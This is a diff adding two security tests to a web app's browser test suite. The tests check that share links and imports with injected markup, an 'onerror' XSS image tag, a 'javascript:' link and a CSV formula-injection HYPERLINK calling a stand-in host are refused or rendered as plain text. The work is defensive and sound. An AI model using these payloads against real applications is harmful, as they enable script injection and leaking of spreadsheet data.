@@ -5,6 +5,7 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
+import { deflateRawSync } from 'node:zlib';
 import { join } from 'node:path';
 import { APP_URL, cspViolations, launch, shareLink, watchedPage } from './browser.mjs';
 
@@ -172,6 +173,42 @@ describe('hostile input', () => {
     await fresh.goto(cut);
     await fresh.getByTestId('notice').waitFor();
     assert.match(await fresh.getByTestId('notice').textContent(), /Nothing was changed/);
+    assert.deepEqual(problems, []);
+    await context.close();
+  });
+
+  test('a share link whose token symbol carries lines and markup is refused, naming the field', async () => {
+    const { context, page, problems } = await opened(browser);
+    const c = example();
+    c.agreement.incentives.exchange_token_symbol = 'KST\n# Injected heading\n| a | b |\n<img src=x onerror=alert(1)>';
+    const data = deflateRawSync(Buffer.from(JSON.stringify(c))).toString('base64url');
+    const fresh = await context.newPage();
+    await fresh.goto(`${APP_URL}#connector-scope-case=${data}`);
+    await fresh.getByTestId('notice').waitFor();
+    assert.match(await fresh.getByTestId('notice').textContent(), /agreement\.incentives\.exchange_token_symbol: must be one line.*Nothing was changed/);
+    await fresh.getByRole('tab', { name: 'Proposal' }).click();
+    assert.equal(await fresh.getByRole('heading', { name: 'Injected heading' }).count(), 0);
+    assert.deepEqual(problems, []);
+    await context.close();
+  });
+
+  test('markup and formulas in every text field reach the proposal and the CSV as text', async () => {
+    const { context, page, problems } = await opened(browser);
+    const c = example();
+    c.exchange.name = '<b>Bold</b> [x](javascript:alert(1))';
+    c.candidates[0].name = '=HYPERLINK("http://x/?"&B2,"Click")';
+    c.agreement.incentives.exchange_token_symbol = '<i>KST</i>';
+    await importing(page, file('hostile.json', JSON.stringify(c)));
+    await page.getByRole('tab', { name: 'Proposal' }).click();
+    const doc = page.locator('.document');
+    assert.match(await doc.textContent(), /<b>Bold<\/b> \[x\]\(javascript:alert\(1\)\)/);
+    assert.match(await doc.textContent(), /<i>KST<\/i>/);
+    assert.equal(await doc.locator('b, i, a, img').count(), 0);
+    await page.getByRole('tab', { name: 'Cases' }).click();
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /candidates \(CSV\)/ }).click()]);
+    const csv = readFileSync(await download.path(), 'utf8');
+    assert.ok(csv.split('\n').slice(1).every((line) => !/^"?[=+\-@\t\r]/.test(line)), csv);
+    assert.match(csv, /^"'=HYPERLINK/m);
     assert.deepEqual(problems, []);
     await context.close();
   });
